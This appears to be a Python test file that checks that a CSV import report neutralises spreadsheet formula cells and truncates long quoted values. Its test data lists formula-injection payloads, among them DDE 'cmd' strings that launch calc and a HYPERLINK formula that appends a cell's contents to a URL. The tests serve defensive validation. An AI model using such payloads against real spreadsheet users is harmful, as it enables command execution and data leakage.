"""The downloadable import report carries no formula and quotes no long cell (issue 18).

A file whose cells are formulas (``=HYPERLINK…``, ``+cmd|…``, ``@SUM…``, ``-2+3``, tab and carriage
return prefixes) gives a report whose every text cell is neutralised by the exports' own rule
(:mod:`data_access.formulas`), and whose quoted values are at most 80 characters.
"""

from __future__ import annotations

import csv
import io

from data_access.formulas import DANGEROUS_PREFIXES
from data_access.importers import prepare_import
from data_access.importers.validation import QUOTED_MAX

FORMULAS = ['=HYPERLINK("http://example.org/?"&A1;"clic")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1"]


def _report_cells(preview) -> list[list[str]]:  # type: ignore[no-untyped-def]
    return list(csv.reader(io.StringIO(preview.report_csv().decode("utf-8-sig")), delimiter=";"))


def test_the_report_of_a_file_of_formulas_has_no_formula(conn):
    rows = [["indicateur", "territoire", "periode", "valeur", "statut"]]
    rows += [[f, "38185", "2024-01", "1", ""] for f in FORMULAS]
    rows += [["assignations", f, "2024-02", "1", ""] for f in FORMULAS]
    rows += [["assignations", "38185", f, "1", ""] for f in FORMULAS]
    rows += [["assignations", f"3815{i}", "2024-03", f, ""] for i, f in enumerate(FORMULAS)]
    rows += [["assignations", "38185", f"2024-0{i + 4}", "1", f] for i, f in enumerate(FORMULAS)]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\n").writerows(rows)  # quoted where a cell holds ; " or a line end
    data = buffer.getvalue().encode()
    preview = prepare_import(conn, data, "formules.csv")
    cells = _report_cells(preview)
    assert preview.errors >= 5 * len(FORMULAS) - 2  # every formula cell is an error somewhere (a tab may be stripped)
    texts = [cell for row in cells[1:] for cell in row]
    assert not [cell for cell in texts if cell.startswith(DANGEROUS_PREFIXES)]
    assert any(cell.startswith("'=HYPERLINK") for cell in texts)


def test_a_formula_header_is_neutralised_in_the_report(conn):
    preview = prepare_import(conn, b"indicateur;territoire;periode;valeur;=cmd\nassignations;38185;2024-13;5;x\n", "t.csv")
    assert not [c for row in _report_cells(preview) for c in row if c.startswith(DANGEROUS_PREFIXES)]


def test_quoted_values_are_truncated(conn):
    long_cell = "x" * 5000
    preview = prepare_import(conn, f"indicateur;territoire;periode;valeur\n{long_cell};38185;2024-01;1\n".encode(), "t.csv")
    value = preview.issues.loc[0, "valeur"]
    assert len(value) == QUOTED_MAX and value.endswith("…")
    assert "x" * QUOTED_MAX not in preview.issues.loc[0, "message"]
    assert max(len(c) for row in _report_cells(preview) for c in row) < 600
